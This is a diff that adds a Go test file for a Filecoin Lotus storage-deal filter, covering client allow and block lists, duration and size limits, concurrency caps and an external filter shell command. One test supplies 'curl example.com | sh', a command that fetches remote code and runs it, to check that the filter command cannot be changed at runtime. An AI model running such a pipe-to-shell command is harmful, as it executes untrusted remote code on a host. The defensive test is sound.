@@ -0,0 +1,260 @@
+package storageadapter
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"golang.org/x/xerrors"
+
+	"github.com/filecoin-project/go-address"
+	"github.com/filecoin-project/go-fil-markets/storagemarket"
+	smnet "github.com/filecoin-project/go-fil-markets/storagemarket/network"
+	"github.com/filecoin-project/specs-actors/actors/abi"
+	"github.com/filecoin-project/specs-actors/actors/builtin/market"
+
+	"github.com/filecoin-project/lotus/chain/types"
+	"github.com/filecoin-project/lotus/node/config"
+)
+
+type fakeLookup map[address.Address]address.Address
+
+func (l fakeLookup) StateLookupID(ctx context.Context, a address.Address, tsk types.TipSetKey) (address.Address, error) {
+	if a.Protocol() == address.ID {
+		return a, nil
+	}
+	id, ok := l[a]
+	if !ok {
+		return address.Undef, xerrors.Errorf("actor not found")
+	}
+	return id, nil
+}
+
+type fakeDeals []storagemarket.MinerDeal
+
+func (d fakeDeals) ListLocalDeals() ([]storagemarket.MinerDeal, error) {
+	return d, nil
+}
+
+func mustAddr(a address.Address, err error) address.Address {
+	if err != nil {
+		panic(err)
+	}
+	return a
+}
+
+func TestDealFilterDecide(t *testing.T) {
+	clientID := mustAddr(address.NewIDAddress(100))
+	clientKey := mustAddr(address.NewActorAddress([]byte("client")))
+	otherID := mustAddr(address.NewIDAddress(101))
+	otherKey := mustAddr(address.NewActorAddress([]byte("other")))
+	unknownKey := mustAddr(address.NewActorAddress([]byte("unknown")))
+
+	lookup := fakeLookup{clientKey: clientID, otherKey: otherID}
+
+	proposal := func(client address.Address, duration abi.ChainEpoch, size abi.PaddedPieceSize) smnet.Proposal {
+		return smnet.Proposal{DealProposal: &market.ClientDealProposal{
+			Proposal: market.DealProposal{
+				Client:     client,
+				StartEpoch: 100,
+				EndEpoch:   100 + duration,
+				PieceSize:  size,
+			},
+		}}
+	}
+	deal := proposal(clientKey, 1000, 1024)
+
+	inProgress := fakeDeals{
+		{State: storagemarket.StorageDealTransferring},
+		{State: storagemarket.StorageDealActive},
+		{State: storagemarket.StorageDealSealing},
+	}
+
+	cases := []struct {
+		name     string
+		policy   config.DealPolicy
+		deals    fakeDeals
+		proposal smnet.Proposal
+
+		accept bool
+		reason string
+		err    bool
+	}{
+		{name: "no policy", proposal: deal, accept: true},
+		{name: "empty proposal", reason: "empty deal proposal"},
+
+		{
+			name:     "blocked by ID, proposed with key",
+			policy:   config.DealPolicy{BlockedClients: []address.Address{clientID}},
+			proposal: deal,
+			reason:   "is blocked",
+		},
+		{
+			name:     "blocked by key, proposed with ID",
+			policy:   config.DealPolicy{BlockedClients: []address.Address{clientKey}},
+			proposal: proposal(clientID, 1000, 1024),
+			reason:   "is blocked",
+		},
+		{
+			name:     "other client blocked",
+			policy:   config.DealPolicy{BlockedClients: []address.Address{otherKey, unknownKey}},
+			proposal: deal,
+			accept:   true,
+		},
+		{
+			name:     "allowed by key, proposed with ID",
+			policy:   config.DealPolicy{AllowedClients: []address.Address{otherID, clientKey}},
+			proposal: proposal(clientID, 1000, 1024),
+			accept:   true,
+		},
+		{
+			name:     "not allowed",
+			policy:   config.DealPolicy{AllowedClients: []address.Address{otherKey, unknownKey}},
+			proposal: deal,
+			reason:   "isn't allowed",
+		},
+		{
+			name:     "client not on chain",
+			policy:   config.DealPolicy{AllowedClients: []address.Address{unknownKey}},
+			proposal: proposal(unknownKey, 1000, 1024),
+			err:      true,
+		},
+
+		{
+			name:     "too short",
+			policy:   config.DealPolicy{MinDuration: 2000},
+			proposal: deal,
+			reason:   "shorter than 2000",
+		},
+		{
+			name:     "too long",
+			policy:   config.DealPolicy{MaxDuration: 500},
+			proposal: deal,
+			reason:   "longer than 500",
+		},
+		{
+			name:     "duration in bounds",
+			policy:   config.DealPolicy{MinDuration: 1000, MaxDuration: 1000},
+			proposal: deal,
+			accept:   true,
+		},
+		{
+			name:     "piece too small",
+			policy:   config.DealPolicy{MinPieceSize: 2048},
+			proposal: deal,
+			reason:   "smaller than 2048",
+		},
+		{
+			name:     "piece too large",
+			policy:   config.DealPolicy{MaxPieceSize: 512},
+			proposal: deal,
+			reason:   "larger than 512",
+		},
+
+		{
+			name:     "too many deals in progress",
+			policy:   config.DealPolicy{MaxConcurrentDeals: 2},
+			deals:    inProgress,
+			proposal: deal,
+			reason:   "2 deals in progress",
+		},
+		{
+			name:     "active deals aren't in progress",
+			policy:   config.DealPolicy{MaxConcurrentDeals: 3},
+			deals:    inProgress,
+			proposal: deal,
+			accept:   true,
+		},
+
+		{
+			name:     "filter command accepts",
+			policy:   config.DealPolicy{FilterCommand: "cat > /dev/null"},
+			proposal: deal,
+			accept:   true,
+		},
+		{
+			name:     "filter command rejects with stdout",
+			policy:   config.DealPolicy{FilterCommand: "cat > /dev/null; echo no thanks; echo internal detail >&2; exit 1"},
+			proposal: deal,
+			reason:   "no thanks",
+		},
+		{
+			name:     "filter command rejects without output",
+			policy:   config.DealPolicy{FilterCommand: "cat > /dev/null; exit 3"},
+			proposal: deal,
+			reason:   "rejected by deal filter (exit 3)",
+		},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			f, err := NewDealFilter(c.policy, lookup)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if c.deals != nil {
+				f.SetProvider(c.deals)
+			}
+
+			accept, reason, err := f.Decide(context.TODO(), c.proposal)
+			if c.err {
+				if err == nil {
+					t.Fatal("expected an error")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			if accept != c.accept {
+				t.Errorf("expected accept %t, got %t (%s)", c.accept, accept, reason)
+			}
+			if !strings.Contains(reason, c.reason) {
+				t.Errorf("expected reason containing %q, got %q", c.reason, reason)
+			}
+			if strings.Contains(reason, "internal detail") {
+				t.Errorf("stderr of the filter command ended up in the reason %q", reason)
+			}
+		})
+	}
+}
+
+func TestDealFilterReasonTruncated(t *testing.T) {
+	f, err := NewDealFilter(config.DealPolicy{FilterCommand: "cat > /dev/null; head -c 10000 /dev/zero | tr '\\0' x; exit 1"}, fakeLookup{})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	client := mustAddr(address.NewIDAddress(100))
+	accept, reason, err := f.Decide(context.TODO(), smnet.Proposal{DealProposal: &market.ClientDealProposal{
+		Proposal: market.DealProposal{Client: client},
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if accept {
+		t.Fatal("expected the deal to be rejected")
+	}
+	if len(reason) > maxFilterReason+3 {
+		t.Errorf("expected the reason to be truncated, got %d bytes", len(reason))
+	}
+}
+
+func TestDealFilterSetPolicy(t *testing.T) {
+	f, err := NewDealFilter(config.DealPolicy{FilterCommand: "true"}, fakeLookup{})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if err := f.SetPolicy(config.DealPolicy{FilterCommand: "curl example.com | sh"}); err == nil {
+		t.Fatal("expected changing the filter command to fail")
+	}
+
+	if err := f.SetPolicy(config.DealPolicy{FilterCommand: "true", MaxConcurrentDeals: 5}); err != nil {
+		t.Fatal(err)
+	}
+	if p := f.Policy(); p.MaxConcurrentDeals != 5 || p.FilterCommand != "true" {
+		t.Errorf("unexpected policy %+v", p)
+	}
+}